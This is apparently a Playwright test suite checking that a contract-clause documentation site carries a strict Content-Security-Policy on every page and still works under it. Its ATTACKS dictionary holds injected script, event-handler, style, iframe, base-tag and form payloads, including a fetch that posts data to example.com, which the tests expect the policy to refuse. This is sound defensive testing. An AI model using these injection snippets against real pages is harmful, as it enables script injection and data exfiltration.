"""Every page carries a policy that lets in the site's own files and nothing else; the site works under it."""

import re

import pytest
from playwright.sync_api import expect

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
# On the page itself, because waiting for a script's value would need the eval that the policy refuses.
REPORT = """addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
  document.documentElement.dataset.violations = `${document.documentElement.dataset.violations ?? ""}|${effectiveDirective} ${blockedURI} ${sample}`;
})"""


def addresses(repository):
    site = repository / "site"
    return [file.relative_to(site).as_posix().removesuffix("index.html") for file in sorted(site.rglob("*.html"))]


def visit(page, address):
    """Until the page has what search needs; fill pages have no search."""
    page.goto(address)
    box = page.locator(".md-search__input")
    if box.count():
        with page.expect_response("**/search_index.json"):
            box.focus()


def violations(page):
    return page.locator("html").get_attribute("data-violations")


def test_every_page_has_the_policy_before_its_first_script(repository):
    for file in (repository / "site").rglob("*.html"):
        text = file.read_text(encoding="utf-8")
        found = POLICY.search(text)
        assert found and found.start() < text.index("<script"), file
        assert "unsafe" not in found[1] and "*" not in found[1] and "http" not in found[1], found[1]
        assert {"default-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"} <= set(found[1].split("; "))


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_page_needs_what_the_policy_refuses(chromium, site, repository, scheme):
    context = chromium.new_context(base_url=site, color_scheme=scheme)
    page = context.new_page()
    page.add_init_script(REPORT)
    complaints = []
    page.on("console", lambda message: complaints.append(f"{page.url} {message.text}") if message.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: complaints.append(f"{page.url} {error}"))
    for address in addresses(repository):
        visit(page, address)
        complaints += [f"{address} {found}" for found in [violations(page)] if found]
    context.close()
    assert complaints == []


def test_everything_on_a_page_works_under_the_policy(page):
    page.add_init_script(REPORT)
    page.goto("clauses/fees/")
    scheme = page.locator("body").get_attribute("data-md-color-scheme")
    page.locator("label.md-header__button[for^=__palette]:visible").click()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", scheme)
    page.locator(".contract .copy-clause").click()
    page.get_by_text("已复制").first.wait_for()
    page.get_by_role("textbox", name="搜索").fill("逾期利息")
    page.locator(".md-search-result__link").first.wait_for()
    assert violations(page) is None


ATTACKS = {
    "script-src-elem": "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.attacked = true'}))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<button onclick=\"window.attacked = true\">x</button>'); document.body.lastElementChild.click()",
    "style-src-elem": "document.head.append(Object.assign(document.createElement('style'), {textContent: 'body {display: none}'}))",
    "img-src": "document.body.append(Object.assign(new Image(), {src: 'https://example.com/pixel.png'}))",
    "connect-src": "fetch('https://example.com/collect', {method: 'POST', body: 'contract'}).catch(() => {})",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://example.com/'}))",
    "form-action": "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://example.com/\"></form>'); document.body.lastElementChild.submit()",
    "base-uri": "document.head.append(Object.assign(document.createElement('base'), {href: 'https://example.com/'}))",
}


@pytest.mark.parametrize("directive", ATTACKS)
def test_what_was_not_built_in_is_refused(page, directive):
    sent = []
    page.route("https://example.com/**", lambda route: (sent.append(route.request.url), route.abort()))
    page.goto("clauses/fees/")
    refused = page.evaluate(f"""() => new Promise((resolve) => {{
      addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
      setTimeout(() => resolve("nothing"), 5000);
      {ATTACKS[directive]};
    }})""")
    assert refused == directive
    assert page.evaluate("window.attacked") is None
    assert sent == []
